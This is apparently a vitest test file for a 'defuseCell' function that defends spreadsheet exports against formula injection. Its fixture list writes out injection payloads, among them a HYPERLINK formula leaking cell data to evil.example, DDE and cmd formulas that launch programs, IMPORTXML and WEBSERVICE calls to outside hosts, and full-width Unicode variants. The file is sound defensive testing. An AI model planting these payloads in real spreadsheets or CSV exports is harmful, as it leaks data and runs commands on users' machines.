import { describe, expect, it } from 'vitest';
import { defuseCell } from './defuse.ts';

/** Payloads a spreadsheet could run: each must come out with a leading `'` (and no NUL). */
const DANGEROUS: readonly (readonly [input: string, expected: string])[] = [
  ['=1+1', "'=1+1"],
  [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Clicca qui")',
    `'=HYPERLINK("http://evil.example/?leak="&A1,"Clicca qui")`,
  ],
  ['=hyperlink("https://x.example","ok")', `'=hyperlink("https://x.example","ok")`],
  ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
  ['@SUM(A1:A10)', "'@SUM(A1:A10)"],
  ['-2+3', "'-2+3"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['-', "'-"],
  ['=', "'="],
  ['@', "'@"],
  ["=cmd|' /C notepad'!'A1'", "'=cmd|' /C notepad'!'A1'"],
  ['=DDE("cmd";"/C calc";"!A0")A0', `'=DDE("cmd";"/C calc";"!A0")A0`],
  [
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "'=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  ],
  [
    '=IMPORTXML(CONCAT("http://x.example/?v=", A1), "//a")',
    `'=IMPORTXML(CONCAT("http://x.example/?v=", A1), "//a")`,
  ],
  ['=WEBSERVICE("http://x.example")', `'=WEBSERVICE("http://x.example")`],
  ['\t=1+1', "'\t=1+1"],
  ['\tciao', "'\tciao"],
  ['\r=1+1', "'\r=1+1"],
  ['\rciao', "'\rciao"],
  ['\0=1+1', "'=1+1"],
  ['\0ciao', "'ciao"],
  [' =1+1', "' =1+1"],
  ['   @SUM(A1)', "'   @SUM(A1)"],
  ['\n=1+1', "'\n=1+1"],
  ['\u00a0=1+1', "'\u00a0=1+1"],
  ['\u3000＝1+1', "'\u3000＝1+1"],
  ['＝1+1', "'＝1+1"],
  ['＝HYPERLINK("http://evil.example")', `'＝HYPERLINK("http://evil.example")`],
  ['＋1', "'＋1"],
  ['－2+3', "'－2+3"],
  ['＠SUM(A1)', "'＠SUM(A1)"],
  [' \t ciao', "' \t ciao"],
];

/** Ordinary text, including text with those characters later on: passes unchanged. */
const HARMLESS: readonly string[] = [
  '',
  'Che il cambiamento inizi da qui',
  'Perché è così difficile chiedere aiuto? Più attenzione, città più giuste.',
  'Però... non lo sapevo!',
  'لا أحد يستحق أن يُستغل',
  '每个人都应该有尊严地工作',
  'Ogni persona conta 💪🏽❤️',
  '3 - 2',
  '3 + 2 = 5',
  'email: nome@example.it',
  'ciao = hello',
  '2026-11-23',
  "L'abbiamo capito",
  '"tra virgolette"',
  'uno; due; tre',
  'riga uno\nriga due',
  '   ',
  ' ciao',
  'a\t=1',
  '#1 in classe',
  '100%',
  'Привет, мир',
  'हर इंसान की इज़्ज़त',
  'A+',
  "DDE dopo il testo: =MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32'!''",
  '3B Liceo Golgi',
];

describe('defuseCell', () => {
  it.each(DANGEROUS)('prefixes a quote to %j', (input, expected) => {
    expect(defuseCell(input)).toBe(expected);
  });

  it.each(HARMLESS)('leaves %j unchanged', (input) => {
    expect(defuseCell(input)).toBe(input);
  });

  it('strips NUL characters anywhere', () => {
    expect(defuseCell('ci\0ao\0')).toBe('ciao');
  });

  it('never leaves a defused cell that a second pass would change again', () => {
    for (const [input] of DANGEROUS) {
      const once = defuseCell(input);
      expect(defuseCell(once)).toBe(once);
    }
  });
});
